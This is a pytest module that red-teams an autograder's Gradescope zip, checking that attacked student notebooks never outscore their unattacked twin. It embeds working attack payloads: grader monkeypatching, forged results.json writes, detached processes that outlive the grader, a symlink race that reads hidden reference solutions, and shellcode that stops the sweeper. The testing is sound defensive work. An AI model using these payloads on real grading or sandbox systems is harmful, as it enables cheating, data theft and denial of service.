"""Red team through the Gradescope zip: every attack, run by `cnngrade try-zip`, earns no more than its twin.

Each attack of the bulk grader's red-team suite (test_redteam.ATTACKS), and the ones only a
Gradescope container invites (the zip's files, results.json, a process left to rewrite it), is
appended to a submission with a known mistake. The twin (that submission without the attack) and
every attacked copy go through the zip's own run_autograder, with the same seed, in both kinds of
container: Docker's defaults (the notebook runs as an unprivileged user, no namespaces) and a
permissive one (bubblewrap inside). No attacked copy may score more than its twin on any question,
nothing may reach a listener on this machine's loopback, and no process of the student's uid may
be left.
"""

from __future__ import annotations

import os
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from string import Template

import pytest

from autograder.build import Built
from autograder.build.try_zip import TryRun, try_one
from autograder.course import ASSIGNMENTS, assignment
from autograder.grading.gradescope_run import processes_of

from .factories import require_try_zip
from .test_redteam import ATTACKS, BASES, EXAMPLES, Listener, attacked_notebook

pytestmark = pytest.mark.slow
SEED = 99

GRADESCOPE_ATTACKS = {
    "patch_the_checks": """
import importlib
for module, names in (("autograder.checks.compare", ("check_array", "check_close", "check_number")),
                      ("autograder.checks.coerce", ("require_shape", "as_array", "as_grid")),
                      ("cnn_checks.compare", ("check_array",)), ("autograder.course", ("run_case",))):
    try:
        found = importlib.import_module(module)
        for name in names:
            setattr(found, name, lambda *a, **k: a[0] if a else None)
    except Exception:
        pass
""",
    "patch_otter": """
import sys, types
fake = types.ModuleType("otter")
fake.Notebook = lambda *a, **k: types.SimpleNamespace(check=lambda *a, **k: True, check_all=lambda: True)
sys.modules["otter"] = fake
import builtins
real_import = builtins.__import__
builtins.__import__ = lambda name, *a, **k: fake if name.startswith("otter") else real_import(name, *a, **k)
""",
    "tamper_with_the_zip_and_results": """
import json, os
fake = json.dumps({"score": 1000, "tests": [{"name": "q1", "score": 1000, "max_score": 1}]})
for path in ("/autograder/results/results.json", "/autograder/run_autograder", "/autograder/source/run_autograder",
             "/autograder/source/run_cnngrade.py", "/autograder/source/setup.sh", "/autograder/source/cnngrade.json",
             "/autograder/source/lib/autograder/grading/gradescope_run.py",
             "/autograder/source/lib/autograder/outputs/results_json.py", "/autograder/results/stdout"):
    for mode in ("w", "a"):
        try:
            with open(path, mode) as handle:
                handle.write(fake if path.endswith(".json") else "\\necho '" + fake + "' > /autograder/results/results.json\\n")
        except Exception:
            pass
try:
    os.symlink("/tmp/fake.json", "/autograder/results/results.json")
except Exception:
    pass
""",
    "outlive_the_grader": """
import os, sys, subprocess
writer = '''
import json, time, os
for _ in range(6000):
    for path in ("/autograder/results/results.json", "/proc/1/root/autograder/results/results.json"):
        try:
            with open(path, "w") as handle:
                handle.write(json.dumps({"score": 1000}))
        except Exception:
            pass
    time.sleep(0.01)
'''
try:
    subprocess.Popen([sys.executable, "-c", writer], start_new_session=True,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
except Exception:
    pass
if os.fork() == 0:
    try:
        os.setpgid(0, 0)  # out of the process group the grader kills
    except Exception:
        pass
    if os.fork() == 0:
        try:
            exec(writer)
        finally:
            os._exit(0)
    os._exit(0)
""",
    "read_what_gradescope_holds": """
import glob, json, os, zipfile, zipimport, sys
for path in ["/autograder/submission_metadata.json", *glob.glob("/autograder/**", recursive=True)]:
    try:
        open(path, "rb").read(1)
    except Exception:
        continue
    if path.endswith((".whl", ".zip")):
        try:
            sys.path.insert(0, path)
            module = __import__("solutions.$hw", fromlist=["*"])
            for name in $values + $functions:
                if hasattr(module, name):
                    globals()[name] = getattr(module, name)
        except Exception:
            pass
""",
    "kill_the_grader": """
import os, signal
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except Exception:
            pass
""",
}
# From the red-team pass on this suite's first version: each once scored 21/21 or left no results.json.
GRADESCOPE_ATTACKS["rig_the_scratch_then_kill_the_server"] = (
    "# (a)+(b) in a container without namespaces: read the reference and score it.\n# Run 1: a process left behind (no sweep runs between the two runs of a job) renames the grader's scratch\n# parent (the notebook's HOME, owned by its uid, in the sticky /tmp) and puts a symlink to\n# /autograder/source/lib in its place, then kills the fork server (same uid). The grader takes the\n# lost server for its own fault and runs the job again: unprivileged.py, as root, os.chdir()s through\n# the symlink before dropping to the uid, so the new fork server, and the watcher it forks, have their\n# working folder inside /autograder, where the uid could never walk. The symlink is swapped back once the\n# new server has started (so its TMPDIR works). Run 2: the watcher is dumpable (own_namespaces set it and\n# failed), so /proc/<watcher>/cwd opens, and everything below it is readable (only /autograder and\n# /autograder/source are 0700).\nimport os, signal, time\nscratch = os.environ['HOME']\nmarker = os.path.join(scratch, '.armed')\nif not os.path.exists(marker):\n    open(marker, 'w').close()\n    watcher = os.getppid()\n    server = int(open(f'/proc/{watcher}/stat').read().rsplit(')', 1)[1].split()[1])\n    if os.fork() == 0:\n        try:\n            os.setpgid(0, 0)\n            if os.fork() == 0:\n                os.setpgid(0, 0)\n                os.closerange(3, 4096)\n                os.rename(scratch, scratch + '.real')\n                os.symlink('/autograder/source/lib', scratch)\n                os.kill(server, signal.SIGKILL)\n                old = {int(e) for e in os.listdir('/proc') if e.isdigit()}  # ourselves, the old watcher, ...\n                deadline = time.time() + 40\n                while time.time() < deadline:\n                    found = False\n                    for e in os.listdir('/proc'):\n                        if e.isdigit() and int(e) not in old:\n                            try:\n                                line = open(f'/proc/{e}/cmdline', 'rb').read()\n                                # the server itself, after the launcher's exec (not the launcher, whose\n                                # command line names it too): only then has the launcher chdir()ed\n                                found = b'autograder.sandboxed.forkserver' in line and b'unprivileged.py' not in line\n                            except OSError:\n                                pass\n                            if found:\n                                break\n                    if found:\n                        os.unlink(scratch)\n                        os.rename(scratch + '.real', scratch)\n                        break\n                    time.sleep(0.002)\n                time.sleep(60)\n        finally:\n            os._exit(0)\n    time.sleep(30)\nelse:\n    base = f'/proc/{os.getppid()}/cwd'\n    lecture = open(base + '/solutions/lecture.py').read()\n    reference = open(base + '/solutions/hw1.py').read()\n    hidden = open(base + '/autograder/course/hidden/hw1.py').read()\n    space = {'__name__': 'reference'}\n    exec(compile(lecture, 'lecture', 'exec'), space)\n    exec(compile(reference.replace('from solutions.lecture import', '# '), 'hw1', 'exec'), space)\n    for name in space['__all__']:\n        globals()[name] = space[name]\n    print(hidden[:200])\n"
)
GRADESCOPE_ATTACKS["stop_the_sweeper"] = (
    "# (f) no results.json: a process left behind stops the root grader's sweep helper. kill_every_process_of\n# forks a root child that drops to the student's uid and then calls kill(-1, SIGKILL); between its\n# setresuid and its kill, the student's process may signal it: SIGSTOP, and the root grader's\n# os.waitpid(pid, 0) (no WUNTRACED) waits forever. kill(-1) spares the caller's whole thread group, so\n# several threads of one process can spin kill(-1, SIGSTOP) on every CPU (a 21-byte machine-code loop,\n# run through ctypes, which releases the GIL) without stopping each other.\nimport ctypes, mmap, os, platform, threading, time\nwatcher = os.getppid()\nserver = int(open(f'/proc/{watcher}/stat').read().rsplit(')', 1)[1].split()[1])\nif platform.machine() == 'x86_64' and os.fork() == 0:\n    try:\n        os.setpgid(0, 0)\n        if os.fork() == 0:\n            os.setpgid(0, 0)\n            os.closerange(3, 4096)\n            # kill(-1, SIGSTOP) forever: mov eax,62; mov rdi,-1; mov esi,19; syscall; jmp back\n            code = bytes.fromhex('b83e00000048c7c7ffffffffbe130000000f05ebeb')\n            page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\n            page.write(code)\n            address = ctypes.addressof(ctypes.c_char.from_buffer(page))\n            spin = ctypes.CFUNCTYPE(None)(address)\n            while os.path.exists(f'/proc/{server}') or os.path.exists(f'/proc/{watcher}'):\n                time.sleep(0.001)  # the notebook's own processes (same uid) must finish first\n            for _ in range(max(2, min(8, os.cpu_count() or 2) - 1)):\n                threading.Thread(target=spin, daemon=True).start()\n            time.sleep(3600)\n    finally:\n        os._exit(0)\n"
)
ALL_ATTACKS = {**ATTACKS, **GRADESCOPE_ATTACKS}
CONTAINERS = ("docker", "permissive")


@pytest.fixture(scope="module")
def listener():
    server = Listener()
    yield server
    server.close()


@pytest.mark.parametrize("kind", CONTAINERS)
@pytest.mark.parametrize("name", sorted(ASSIGNMENTS))
def test_no_attack_on_the_zip_earns_more_than_its_twin(
    fresh_build: dict[str, Built], name: str, kind: str, tmp_path: Path, listener: Listener
) -> None:
    require_try_zip()
    homework = assignment(name)
    base = EXAMPLES / name / f"{BASES[name]}.ipynb"
    canary = tmp_path / "canary" / "pwned"
    notebooks = {"twin": base}
    for attack, code in ALL_ATTACKS.items():
        cell = Template(code).substitute(
            hw=name,
            values=repr(list(homework.values)),
            functions=repr(list(homework.functions)),
            canary=canary,
            out=tmp_path / "out",
            port=listener.port,
            site_packages="/nonexistent",
        )
        notebooks[attack] = tmp_path / "notebooks" / f"{attack}.ipynb"
        notebooks[attack].parent.mkdir(exist_ok=True)
        attacked_notebook(base, cell, notebooks[attack])

    def run(item: tuple[str, Path]) -> tuple[str, TryRun]:
        label, notebook = item
        return label, try_one(
            fresh_build[name].zip_path, notebook, tmp_path / "runs" / label, seed=SEED, kind=kind, timeout=30
        )

    with ThreadPoolExecutor(max_workers=os.cpu_count() or 1) as pool:
        runs = dict(pool.map(run, notebooks.items()))

    expected_sandbox = "unprivileged" if kind == "docker" else "bubblewrap"
    for label, result in runs.items():
        assert result.results["extra_data"]["sandbox"]["kind"] == expected_sandbox, (label, result.log[-2000:])
    twin = {q: score for q, (score, _) in runs["twin"].question_scores().items()}
    assert 0 < sum(twin.values()) < sum(ASSIGNMENTS[name].points().values())
    gains = {
        label: {q: score for q, (score, _) in result.question_scores().items() if score > twin[q] + 1e-9}
        for label, result in runs.items()
    }
    assert {label: gained for label, gained in gains.items() if gained} == {}
    assert all(result.exit_code == 0 for result in runs.values()), {
        label: result.log[-500:] for label, result in runs.items() if result.exit_code
    }
    assert listener.connections == 0
    assert not canary.exists() and not canary.parent.exists()
    for label, result in runs.items():
        assert processes_of(result.results["extra_data"]["sandbox"]["uid"]) == [], f"{label}: a process outlived it"
